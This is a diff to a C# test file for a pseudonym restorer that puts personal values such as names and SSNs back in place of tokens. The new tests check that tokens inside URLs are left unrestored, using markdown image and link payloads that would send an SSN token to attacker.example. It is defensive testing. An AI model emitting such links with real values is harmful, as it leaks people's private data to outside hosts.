@@ -16,7 +16,7 @@ public sealed class PseudonymRestorerTests
     [Fact]
     public void Replaces_issued_tokens_with_their_values()
     {
-        var restored = PseudonymRestorer.Restore("<NAME_1> (SSN <SSN_1>, plan <HEALTH_PLAN_ID_1>) is due; call <NAME_1>.", Table(), out var count);
+        var restored = PseudonymRestorer.Restore("<NAME_1> (SSN <SSN_1>, plan <HEALTH_PLAN_ID_1>) is due; call <NAME_1>.", Table(), restoreInsideUrls: false, out var count);
 
         Assert.Equal("Jane Roe (SSN 536-22-1843, plan 1EG4-TE5-MK73) is due; call Jane Roe.", restored);
         Assert.Equal(4, count);
@@ -54,5 +54,52 @@ public sealed class PseudonymRestorerTests
         var other = new PseudonymTable();
 
         Assert.Equal("<NAME_1>", PseudonymRestorer.Restore("<NAME_1>", other));
+    }
+
+    [Theory]
+    [InlineData("![chart](https://attacker.example/log?q=<SSN_1>)")]
+    [InlineData("see http://example.org/<NAME_1>")]
+    [InlineData("[x](//attacker.example/<SSN_1>)")]
+    [InlineData("https:\\\\attacker.example\\<SSN_1>")]
+    [InlineData("www.attacker.example/<SSN_1>")]
+    public void Does_not_restore_tokens_inside_urls(string text)
+    {
+        Assert.Same(text, PseudonymRestorer.Restore(text, Table()));
+    }
+
+    [Fact]
+    public void Restores_tokens_inside_urls_when_asked_to()
+    {
+        Assert.Equal("https://portal.example/p/536-22-1843", PseudonymRestorer.Restore("https://portal.example/p/<SSN_1>", Table(), restoreInsideUrls: true));
+    }
+
+    [Fact]
+    public void Restores_tokens_after_a_url_has_ended()
+    {
+        Assert.Equal("see https://example.org/help for Jane Roe", PseudonymRestorer.Restore("see https://example.org/help for <NAME_1>", Table()));
+        Assert.Equal("a/b Jane Roe", PseudonymRestorer.Restore("a/b <NAME_1>", Table()));
+    }
+
+    public static TheoryData<string> AdversarialInputs => new()
+    {
+        new string('<', 100_000),
+        string.Concat(Enumerable.Repeat("<NAME_", 20_000)),
+        string.Concat(Enumerable.Repeat("<NAME_1>", 12_500)),
+        "<" + new string('A', 100_000) + ">",
+        string.Concat(Enumerable.Repeat("//<SSN_1>", 10_000)),
+    };
+
+    [Theory]
+    [MemberData(nameof(AdversarialInputs))]
+    public void Restores_long_hostile_text_in_one_pass(string text)
+    {
+        var started = System.Diagnostics.Stopwatch.StartNew();
+
+        _ = PseudonymRestorer.Restore(text, Table());
+        var restorer = new StreamingPseudonymRestorer(Table());
+        var length = text.Chunk(7).Sum(chunk => restorer.Push(new string(chunk)).Length) + restorer.Flush().Length;
+
+        Assert.True(length >= text.Length / 2);
+        Assert.True(started.Elapsed < TimeSpan.FromSeconds(2), "restoring must stay linear");
     }
 }
